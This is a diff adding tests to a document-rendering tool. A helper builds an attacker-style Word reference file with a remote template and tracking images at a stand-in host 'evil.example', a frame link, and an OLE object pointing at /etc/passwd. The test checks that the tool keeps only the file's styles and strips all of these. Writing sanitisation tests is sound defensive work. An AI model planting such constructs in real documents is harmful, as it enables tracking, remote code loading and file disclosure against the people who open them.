@@ -75,3 +75,62 @@ def test_a_word_document_holds_its_budget_and_names_what_it_left_out(cli, tmp_pa
     assert "Word document cut:" in result.stderr and "more words left out (at most 40 sections, items and blocks," in result.stderr
     text = " ".join(output_text(tmp_path / "long.docx", "docx").split())
     assert "is left out: a Word document holds at most 40 sections" in text and "point 29.2" not in text
+
+
+def _hostile_reference(path) -> None:
+    """A reference document as an attacker makes one: an attached remote template in its settings,
+    a linked (not embedded) picture and an OLE object naming a local file in its body, a header
+    whose picture is fetched from a server, and a frame relationship."""
+    import docx
+    from docx.oxml import parse_xml
+
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    word = docx.Document()
+    word.styles["Normal"].font.name = "Georgia"  # what a reference is for: its styles
+    settings = word.part._settings_part
+    template = settings.rels.get_or_add_ext_rel(rel + "attachedTemplate", "http://evil.example/t.dotm")
+    settings.element.append(parse_xml(f'<w:attachedTemplate xmlns:w="{_W}" xmlns:r="{_R}" r:id="{template}"/>'))
+    body_part = word.part
+    linked = body_part.rels.get_or_add_ext_rel(rel + "image", "http://evil.example/track.png")
+    ole = body_part.rels.get_or_add_ext_rel(rel + "oleObject", "file:///etc/passwd")
+    body_part.rels.get_or_add_ext_rel(rel + "frame", "http://evil.example/frame.html")
+    word.add_paragraph("the reference's own text")
+    drawing = f'<w:drawing><a:blip xmlns:a="{_A}" r:link="{linked}"/></w:drawing>'
+    ole_run = f'<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="{ole}"/></w:object>'
+    word.element.body.insert(0, parse_xml(f'<w:p xmlns:w="{_W}" xmlns:r="{_R}"><w:r>{ole_run}</w:r><w:r>{drawing}</w:r></w:p>'))
+    header = word.sections[0].header
+    header.paragraphs[0].text = "Conference header"
+    beacon = header.part.rels.get_or_add_ext_rel(rel + "image", "http://evil.example/beacon.png")
+    header.paragraphs[0]._p.append(
+        parse_xml(f'<w:r xmlns:w="{_W}" xmlns:r="{_R}"><w:drawing><a:blip xmlns:a="{_A}" r:link="{beacon}"/></w:drawing></w:r>')
+    )
+    word.save(str(path))
+
+
+_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
+
+
+def test_a_hostile_reference_document_gives_its_styles_and_nothing_external(cli, tmp_path):
+    import re
+    import zipfile
+
+    reference = tmp_path / "reference.docx"
+    _hostile_reference(reference)
+    assert b'TargetMode="External"' in b"".join(zipfile.ZipFile(reference).read(n) for n in zipfile.ZipFile(reference).namelist())
+    note = tmp_path / "talk.md"
+    note.write_text("# Talk\n\n## Part\n\n- a point\n", encoding="utf-8")
+    out = tmp_path / "talk.docx"
+    result = cli("render", str(note), "--to", "docx", "--reference-docx", str(reference), "-o", str(out))
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(out) as made:
+        everything = b"".join(made.read(name) for name in made.namelist())
+        rels = b"".join(made.read(name) for name in made.namelist() if name.endswith(".rels"))
+    assert b"External" not in rels and b"evil.example" not in everything and b"/etc/passwd" not in everything
+    assert b"attachedTemplate" not in everything and not re.search(rb"r:(link|id)=\"rId\d+\"[^>]*/>\s*</w:drawing>", everything)
+    import docx
+
+    word = docx.Document(str(out))
+    assert word.styles["Normal"].font.name == "Georgia" and "Conference header" in word.sections[0].header.paragraphs[0].text
+    assert "the reference's own text" not in output_text(out, "docx") and "a point" in output_text(out, "docx")
